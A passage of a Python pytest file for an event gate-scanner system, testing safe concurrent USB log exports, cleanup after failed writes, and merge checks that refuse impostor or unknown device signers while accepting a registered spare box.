    assert list(outside.iterdir()) == []


def test_two_exports_at_the_same_second_never_share_a_folder(door1, stick, manager):
    config = door1.config()
    from scanner.transfer.usb import export_to

    results: list[Path] = []
    threads = [
        threading.Thread(target=lambda: results.append(export_to(config, stick, now=NOW).folder))
        for _ in range(4)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(set(results)) == 4
    assert sorted(p.name for p in results[0].parent.iterdir()) == [
        "20261205T233000Z",
        "20261205T233000Z-2",
        "20261205T233000Z-3",
        "20261205T233000Z-4",
    ]
    identities = load_age_identities(manager.identity)
    assert all(verify_export(f, identities=identities).complete for f in results)


def test_an_export_in_progress_leaves_no_plaintext_and_no_half_folder(
    tmp_path, door1, stick, monkeypatch
):
    import scanner.transfer.export as export_module

    real = export_module._write_file
    calls = []

    def fail_on_third(dir_fd, name, data):
        calls.append(name)
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        real(dir_fd, name, data)

    monkeypatch.setattr(export_module, "_write_file", fail_on_third)
    with pytest.raises(Exception, match="No space left"):
        export_log(
            door1.db, stick, gate="door-1", event=EVENT, device_key=door1.device_key, now=NOW,
            plaintext=True,
        )
    leftovers = [p for p in stick.rglob("*") if p.is_file()]
    assert leftovers == []



# -- gate identity comes from signed data: the roster, or the manager's own file names --------


def _roster_policy(tmp_path, organizer_key, recipients, roster: dict[str, dict]) -> Path:
    """The event policy with a roster: gate -> {device_key, former_device_keys}."""
    from scanner.core.keys import public_key_text
    from scanner.core.policy import sign_policy

    from .conftest import EXAMPLE_POLICY, SIGNED_AT

    text = EXAMPLE_POLICY.read_text() + f"\n[export]\nrecipients = {json.dumps(recipients)}\n"
    for gate, keys in roster.items():
        text += f'\n[gates.{gate}]\nzone = "backstage"\ndirection = "entry"\n'
        text += f'device_key = "{public_key_text(keys["device_key"].public_key())}"\n'
        former = [public_key_text(k.public_key()) for k in keys.get("former", [])]
        if former:
            text += f"former_device_keys = {json.dumps(former)}\n"
    path = tmp_path / "event.policy"
    path.write_bytes(sign_policy(text, organizer_key, SIGNED_AT))
    return path


def _device_key(gate):
    from scanner.keyfiles import load_private_key

    return load_private_key(gate.folder / "device.key")


def test_a_known_box_signing_its_export_as_another_gate_is_refused_and_the_real_one_merges(
    tmp_path, organizer_key, manager, door1, plain
):
    """door-2's box (known: its key is the manager's) exports a log claiming to be
    door-1, and is merged first. It used to be taken (the key was known) and the
    real door-1 refused as "another box". Now the key is bound to door-2 by the
    roster, or by the file the manager named door-2.pub: the impostor is refused
    and door-1 merges."""
    door2 = make_gate(tmp_path / "gates2", "door-2", organizer_key,
                      recipients=[manager.recipient], rows=2)  # fmt: skip
    posing = make_gate(tmp_path / "posing", "door-1", organizer_key,
                       recipients=[manager.recipient], rows=5)  # fmt: skip
    shutil.copy(door2.folder / "device.key", posing.folder / "device.key")
    shutil.copy(door2.folder / "device.pub", posing.folder / "device.pub")
    fake = export(posing, tmp_path / "stick-fake", "--plaintext")
    policy = _roster_policy(tmp_path, organizer_key, [manager.recipient], {
        "door-1": {"device_key": _device_key(door1)},
        "door-2": {"device_key": _device_key(door2)}})  # fmt: skip
    trust = door1.folder / "trust" / "organizer.pub"
    known = tmp_path / "known"
    known.mkdir()
    shutil.copy(door1.folder / "device.pub", known / "door-1.pub")
    shutil.copy(door2.folder / "device.pub", known / "door-2.pub")
    for how in (["--policy", policy, "--trust", trust], ["--known-gates", known]):
        out = tmp_path / f"all-{how[0].strip('-')}.db"
        result = run("logs", "merge", fake, plain, "-o", out, *how)
        assert result.exit_code == 1
        assert "signed by the device key of gate door-2" in result.output, result.output
        assert merged_holders(out) == [f"Guest {i}" for i in range(12)]  # door-1's own rows
        conn = sqlite3.connect(out)
        assert conn.execute("SELECT gate, rows FROM gates").fetchall() == [("door-1", 12)]
        conn.close()


def test_a_spare_box_that_took_over_a_door_merges_beside_the_old_one_each_row_marked(
    tmp_path, organizer_key, manager, door1, plain
):
    """door-1's box failed mid-show and a spare took over the door (same gate id,
    a new device key), and a guard overrode a denial on it. With the spare on the
    roster and the old key in former_device_keys, both exports merge, nothing is
    lost (the override included), and every row says which box wrote it."""
    spare = make_gate(tmp_path / "spare", "door-1", organizer_key,
                      recipients=[manager.recipient], rows=0)  # fmt: skip
    fill(spare.db, "door-1", 3, 100)
    fill(spare.db, "door-1", 1, 200, reason="override", message="let in by the button")
    spare_export = export(spare, tmp_path / "stick-spare", "--plaintext")
    old_key, new_key = _device_key(door1), _device_key(spare)
    trust = door1.folder / "trust" / "organizer.pub"
    out = tmp_path / "no-roster.db"
    refused = run("logs", "merge", plain, spare_export, "-o", out)
    assert refused.exit_code == 1 and "a spare that took over the door" in refused.output
    policy = _roster_policy(tmp_path, organizer_key, [manager.recipient], {
        "door-1": {"device_key": new_key, "former": [old_key]}})  # fmt: skip
    out = tmp_path / "all.db"
    result = run("logs", "merge", plain, spare_export, "-o", out, "--policy", policy,
                 "--trust", trust)  # fmt: skip
    assert result.exit_code == 0, result.output
    conn = sqlite3.connect(out)
    by_box = dict(conn.execute("SELECT box, count(*) FROM scans GROUP BY box").fetchall())
    assert sorted(by_box.values()) == [4, 12] and len(by_box) == 2
    assert conn.execute("SELECT count(*) FROM scans WHERE reason = 'override'").fetchone()[0] == 1
    boxes = conn.execute("SELECT gate, count(*) FROM boxes GROUP BY gate").fetchall()
    assert boxes == [("door-1", 2)]
    conn.close()
    # the same with the manager's own file: one gate, two keys
    known = tmp_path / "known"
    known.mkdir()
    (known / "door-1.pub").write_text(
        (door1.folder / "device.pub").read_text() + (spare.folder / "device.pub").read_text())
    again = run("logs", "merge", plain, spare_export, "-o", tmp_path / "again.db",
                "--known-gates", known)  # fmt: skip
    assert again.exit_code == 0, again.output
    assert count(tmp_path / "again.db") == 16


def test_an_unknown_signer_is_refused_before_any_file_but_its_manifest_is_read(
    tmp_path, organizer_key, manager, known, stick, monkeypatch
):
    """A stick from a box nobody knows, whose export might be gigabytes: the
    merge reads its manifest, sees the signer, and stops there."""
    from scanner.transfer import untrusted

    stranger = make_gate(tmp_path / "gates", "door-9", organizer_key,
                         recipients=[manager.recipient], rows=4)  # fmt: skip
    theirs = export(stranger, stick, "--plaintext")
    opened: list[str] = []
    real_read, real_copy = untrusted.Folder.read, untrusted.Folder.copy
    monkeypatch.setattr(untrusted.Folder, "read",
                        lambda self, name, *a, **k: opened.append(name) or real_read(
                            self, name, *a, **k))  # fmt: skip
    monkeypatch.setattr(untrusted.Folder, "copy",
                        lambda self, name, *a, **k: opened.append(name) or real_copy(
                            self, name, *a, **k))  # fmt: skip
    result = run("logs", "merge", theirs, "-o", tmp_path / "all.db", "--known-gates", known)
    assert result.exit_code == 1 and "nothing else in it was read" in result.output
    assert opened == ["manifest.json"]
    assert not (tmp_path / "all.db").exists()
